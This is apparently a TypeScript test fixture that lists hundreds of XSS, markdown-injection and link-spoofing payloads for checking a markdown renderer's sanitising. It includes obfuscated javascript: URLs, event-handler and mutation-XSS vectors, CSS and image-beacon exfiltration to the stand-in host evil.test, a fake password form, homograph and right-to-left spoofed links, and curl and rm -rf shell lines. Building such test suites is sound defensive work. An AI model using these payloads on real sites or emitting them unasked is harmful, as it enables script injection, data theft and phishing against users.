/**
 * Texts that try to run a script, to load something, or to look like what they are not. `HOST` is where they call; each
 * script that runs sets `window.pwned`.
 */

const HOST = "evil.test";
const RUN = "window.pwned=1";

/** Addresses that would run something, or lead to what is not a website. */
const SCRIPTED = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `\tjavascript:${RUN}`, `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`, `java&Tab;script:${RUN}`, `java&NewLine;script:${RUN}`, `&#106;avascript:${RUN}`, `&#x6A;avascript:${RUN}`,
  `&#0000106avascript:${RUN}`, `javascript&colon;${RUN}`, `javascript&#58;${RUN}`, `javascript&#x3A;${RUN}`, `\\javascript:${RUN}`,
  `javascript\\:${RUN}`, `%6Aavascript:${RUN}`, `javascript%3A${RUN}`, `\u0001javascript:${RUN}`, `\u200Bjavascript:${RUN}`,
  `\u00ADjavascript:${RUN}`, `jav\u0000ascript:${RUN}`, `ｊavascript:${RUN}`, `javascript://${HOST}/%0A${RUN}`, `javascript:/*https://${HOST}/*/${RUN}`,
  `vbscript:msgbox(1)`, `livescript:${RUN}`, `mocha:${RUN}`, `feed:javascript:${RUN}`, `view-source:javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`, `data:application/javascript,${RUN}`, `blob:https://${HOST}/1`, `filesystem:https://${HOST}/temporary/a.html`,
  `file:///etc/passwd`, `intent://${HOST}#Intent;scheme=https;end`, `ms-msdt:/id`, `//${HOST}/a.js`, `\\\\${HOST}\\a`, `/v1/auth/logout`,
];

/** What a link may lead to, and must say. */
const MISLEADING = [
  `https://bank.test@${HOST}/`, `https://bank.test%2F@${HOST}/`, `https:${HOST}`, `https:/${HOST}/a`, `https:\\\\${HOST}\\a`,
  `https://${HOST}/?${"q".repeat(40)}=secret`, `https://b\u0430nk.test/`, `https://bank.test\u3002${HOST}/`, `https://\u202Etset.live/`, `http://[::ffff:127.0.0.1]/`,
  `http://2130706433/`, `mailto:a@${HOST}?bcc=b@${HOST}`, `HTTPS://${HOST.toUpperCase()}/`, `https://${HOST}:443/#https://bank.test`,
];

const LINKED: ((address: string) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `[click](<${address}> "title")`,
  (address) => `[click][r] text\n\n[r]: <${address}> 'title'`,
  (address) => `<${address}>`,
  (address) => `![picture](${address})`,
  (address) => `[![picture](${address})](${address})`,
];

/** Pictures of elsewhere, in every way to ask for one. */
const PICTURES = [
  `![](https://${HOST}/a.png)`, `![alt](https://${HOST}/a.png "title")`, `![alt](<https://${HOST}/a b.png>)`, `![alt](//${HOST}/a.png)`,
  `![alt][p]\n\n[p]: https://${HOST}/a.png`, `![p][]\n\n[p]: https://${HOST}/a.png`, `![p]\n\n[p]: https://${HOST}/a.png`,
  `[![a](https://${HOST}/a.png)](https://${HOST})`, `![![a](https://${HOST}/1.png)](https://${HOST}/2.png)`, `![a](https://${HOST}/a.png =100x100)`,
  `![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`, `![a](https://${HOST}/?q=everything%20you%20said)`,
  `| a |\n|---|\n| ![a](https://${HOST}/t.png) |`, `> ![a](https://${HOST}/q.png)`, `- ![a](https://${HOST}/l.png)`, `# ![a](https://${HOST}/h.png)`,
  `[^1]\n\n[^1]: ![a](https://${HOST}/f.png)`, `**![a](https://${HOST}/b.png)**`, `![a\nb](https://${HOST}/n.png)`, `![a](\nhttps://${HOST}/n.png\n)`,
  `![*a*[b]](https://${HOST}/c.png)`, `!\\[a](https://${HOST}/c.png)`, `\\![a](https://${HOST}/c.png)`, `![\u202Ea](https://${HOST}/c.png)`,
  `<img src=https://${HOST}/a.png>`, `<img srcset="https://${HOST}/a.png 1x, https://${HOST}/b.png 2x">`, `<picture><source srcset="https://${HOST}/a.png"><img></picture>`,
  `<video poster=https://${HOST}/a.png src=https://${HOST}/a.mp4 autoplay>`, `<audio src=https://${HOST}/a.mp3 autoplay>`, `<input type=image src=https://${HOST}/a.png>`,
  `<svg><image href="https://${HOST}/a.png"/></svg>`, `<svg><use href="https://${HOST}/a.svg#x"/></svg>`, `<body background=https://${HOST}/a.png>`,
  `<table background="https://${HOST}/a.png"><tr><td>x</table>`, `<div style="background:url(https://${HOST}/a.png)">x</div>`, `<p style=background-image:url(//${HOST}/a)>x</p>`,
];

const HTML = [
  `<script>${RUN}</script>`, `<script src=https://${HOST}/a.js></script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script\n>${RUN}</script\n>`,
  `<script type=module>import "https://${HOST}/a.js"</script>`, `<script/src="data:,${RUN}"></script>`, `"><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`, `</div></div><script>${RUN}</script>`, `<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}"/>`, `<img/src=x/onerror=${RUN}>`,
  `<IMG SRC=x ONERROR=${RUN}>`, `<img src="x" onerror='${RUN}' alt="a">`, `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`, `<svg><set attributeName=href to=javascript:${RUN}></svg>`,
  `<svg><foreignObject><iframe src=javascript:${RUN}></foreignObject></svg>`, `<svg><style>@import "https://${HOST}/a.css"</style></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`, `<math><maction actiontype="statusline#https://${HOST}" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`, `<body onload=${RUN}>`, `<body onpageshow=${RUN}>`,
  `<iframe src=javascript:${RUN}></iframe>`, `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`, `<iframe src=https://${HOST}/></iframe>`, `<object data=https://${HOST}/a.swf></object>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`, `<embed src=https://${HOST}/a>`, `<embed src=javascript:${RUN}>`, `<applet code=a codebase=https://${HOST}/></applet>`,
  `<frameset><frame src=https://${HOST}/></frameset>`, `<link rel=stylesheet href=https://${HOST}/a.css>`, `<link rel=prefetch href=https://${HOST}/a>`, `<link rel=dns-prefetch href=//${HOST}>`,
  `<link rel=preconnect href=https://${HOST}>`, `<link rel=modulepreload href=https://${HOST}/a.js>`, `<link rel=icon href=https://${HOST}/a.ico>`, `<link rel=prerender href=https://${HOST}/>`,
  `<link rel=manifest href=https://${HOST}/a.json>`, `<meta http-equiv=refresh content="0;url=https://${HOST}/">`, `<meta http-equiv=refresh content="0;javascript:${RUN}">`,
  `<meta http-equiv=Set-Cookie content="a=b">`, `<meta http-equiv=x-dns-prefetch-control content=on>`, `<base href=https://${HOST}/>`, `<base target=_self><a href=/x>x</a>`,
  `<style>*{background:url(https://${HOST}/a)}</style>`, `<style>@import url(https://${HOST}/a.css);</style>`, `<style>@font-face{font-family:a;src:url(https://${HOST}/a)}*{font-family:a}</style>`,
  `<style>input[value^=a]{background:url(https://${HOST}/a)}</style>`, `<div style="position:fixed;inset:0;z-index:9999">covered</div>`, `<div style="width:expression(${RUN})">x</div>`,
  `<form action=https://${HOST}/><input name=password><button>Sign in</button></form>`, `<form id=f><input name=parentNode></form>`, `<button form=f formaction=javascript:${RUN}>x</button>`,
  `<isindex action=javascript:${RUN} type=image>`, `<input autofocus onfocus=${RUN}>`, `<select autofocus onfocus=${RUN}></select>`, `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`, `<dialog open>x</dialog>`, `<marquee onstart=${RUN}>x</marquee>`, `<video><source onerror=${RUN}></video>`,
  `<audio src onerror=${RUN}>`, `<video src=x onerror=${RUN}></video>`, `<track src=https://${HOST}/a.vtt>`, `<a href=javascript:${RUN}>click</a>`, `<a href="https://${HOST}" ping="https://${HOST}/p">x</a>`,
  `<a href=https://${HOST} target=_top>x</a>`, `<area href=javascript:${RUN}>`, `<map name=m><area href=https://${HOST}></map><img usemap=#m>`, `<p onclick=${RUN}>x</p>`, `<p onmouseover=${RUN}>x</p>`,
  `<x onpointerrawupdate=${RUN}>x`, `<x contenteditable onblur=${RUN} onfocus=${RUN} id=x tabindex=1 autofocus>`, `<template><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<xmp><script>${RUN}</script></xmp>`, `<plaintext><script>${RUN}</script>`, `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`, `<!--><script>${RUN}</script>-->`, `<!--[if IE]><script>${RUN}</script><![endif]-->`,
  `<!-- --!><img src=x onerror=${RUN}> -->`, `<![CDATA[<script>${RUN}</script>]]>`, `<?xml-stylesheet href="javascript:${RUN}"?>`, `<!DOCTYPE html><script>${RUN}</script>`, `<!ENTITY x SYSTEM "https://${HOST}/">`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;script&#62;${RUN}&#60;/script&#62;`, `<a id=fetch><a id=fetch name=json>`, `<img name=currentScript>`, `<custom-element is=x onload=${RUN}></custom-element>`,
  `<div slot=x shadowrootmode=open><template shadowrootmode=open><script>${RUN}</script></template></div>`, `<portal src=https://${HOST}/>`, `<fencedframe src=https://${HOST}/></fencedframe>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["https://${HOST}/"]}]}</script>`, `<script type=importmap>{"imports":{"a":"https://${HOST}/"}}</script>`, `<div popover id=p>x</div><button popovertarget=p>y</button>`,
];

/** Markup in markup, markup without an end, and characters that are not what they seem. */
const TANGLED = [
  `\`<script>${RUN}</script>\``, `\`\`\`html\n<script>${RUN}</script>\n\`\`\``, `\`\`\`"><script>${RUN}</script>\ncode`, `\`\`\`js onload=${RUN}\ncode\n\`\`\``, `~~~<img src=x onerror=${RUN}>\ncode\n~~~`,
  `\`\`\`\n\`\`\`\`\n<script>${RUN}</script>`, `\`\`\`__proto__\nx\n\`\`\``, `\`\`\`constructor\nx\n\`\`\``, `\`\`\`mermaid\nclick A href "javascript:${RUN}"\n\`\`\``, `\`\`\`svg\n<svg onload=${RUN}>\n\`\`\``,
  `\`\`\`xml\n<!ENTITY a SYSTEM "https://${HOST}">\n\`\`\``, `$$\\href{javascript:${RUN}}{x}$$`, `$\\url{https://${HOST}}$`, `$$\\includegraphics{https://${HOST}/a.png}$$`,
  `[a](javascript:${RUN}`, `[a](<javascript:${RUN}`, `![a](https://${HOST}/a.png`, `[a][`, `<img src=x onerror=${RUN}`, `<script>${RUN}`, `<!-- <script>${RUN}</script>`, `**[a](javascript:${RUN})`,
  `[a](https://${HOST} "\\"><script>${RUN}</script>")`, `[a](https://${HOST} '\\' onmouseover=${RUN} x=')`, `[a](https://${HOST}/"onclick="${RUN})`, `[a](https://${HOST}/'><img/src=x/onerror=${RUN}>)`,
  `[<img src=x onerror=${RUN}>](https://${HOST})`, `[a]: javascript:${RUN}\n\n[a]`, `[a]: https://ok.test\n[a]: javascript:${RUN}\n\n[a]`, `[constructor]\n\n[__proto__]: javascript:${RUN}`, `[__proto__]\n\n[__proto__]: https://${HOST}`,
  `[^__proto__]\n\n[^__proto__]: x`, `[^"><script>]\n\n[^"><script>]: x`, `[^1]: [^1]\n\n[^1]`, `[^a][^b]\n\n[^a]: [^b]\n[^b]: [^a]`, `a[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
  `| <img src=x onerror=${RUN}> |\n|---|\n| <script>${RUN}</script> |`, `| a |\n|:-:"onclick=${RUN}|\n| b |`, `- [ ] <input onfocus=${RUN} autofocus>`, `- [x"onclick=${RUN}] a`, `1. <img src=x onerror=${RUN}>`, `> <script>\n> ${RUN}\n> </script>`,
  `<div\n\n<script>${RUN}</script>\n\n</div>`, `<div>\n\n![a](https://${HOST}/a.png)\n\n</div>`, `<details>\n<summary>x</summary>\n\n[a](javascript:${RUN})\n\n</details>`, `[a](https://${HOST}\u202Egnp.exe)`,
  `[https://bank.test](https://${HOST})`, `[https://bank.test](https://${HOST}/https://bank.test)`, `\u202E[tset.knab//:sptth](https://${HOST})`, `[bank\u200B.test](https://${HOST})`, `[bank.test\u2066](https://${HOST}) (bank.test)`,
  `\`rm -rf \u202E# /\``, `\`\`\`sh\ncurl ok.test \u2066; curl ${HOST}\n\`\`\``, `\u{E0041}\u{E0042} tags`, `https://${HOST}/a www.${HOST} a@${HOST}`, `www.${HOST}?q=<script>${RUN}</script>`,
  `https://${HOST}/&quot;onmouseover=${RUN}`, `<https://${HOST}/"onclick=${RUN}>`, `<a@${HOST}?subject=<script>>`, `xmpp:a@${HOST}`, `\\<script>${RUN}</script>`, `&amp;lt;script&amp;gt;${RUN}`,
  `streamdown:incomplete-link`, `[a](streamdown:incomplete-link)`, `<br onload=${RUN}>`, `<br/><br style="x">`, `${"> ".repeat(60)}<script>${RUN}</script>`, `${"*".repeat(70)}a${"*".repeat(70)}`, `${"[".repeat(60)}a](https://${HOST})`,
  `---\ntitle: <script>${RUN}</script>\n---`, `:::html\n<script>${RUN}</script>\n:::`, `{% raw %}<script>${RUN}</script>{% endraw %}`, `{{constructor.constructor("${RUN}")()}}`, `\${${RUN}}`, `<%= ${RUN} %>`,
  `\u0000<script>${RUN}</script>`, `\uFEFF<script>${RUN}</script>`, `<\u0000script>${RUN}</script>`, `<script\u00A0>${RUN}</script>`, `＜script＞${RUN}＜/script＞`, `\uD800<img src=x onerror=${RUN}>`,
  `# <script>${RUN}</script>`, `<script>${RUN}</script>\n===`, `[a](https://${HOST}){onclick=${RUN}}`, `[[https://${HOST}|bank.test]]`, `![[https://${HOST}/a.png]]`, `{{<iframe src="https://${HOST}">}}`,
];

/** Every way to write a link, over the addresses in turn: each address in two of them, each way with many. */
function linked(addresses: readonly string[]): string[] {
  return addresses.flatMap((address, at) => [0, 1].map((turn) => LINKED[(2 * at + turn + Math.floor(at / 3)) % LINKED.length]?.(address) ?? ""));
}

export const PAYLOADS: readonly string[] = [...new Set([...linked(SCRIPTED), ...linked(MISLEADING), ...PICTURES, ...HTML, ...TANGLED])];
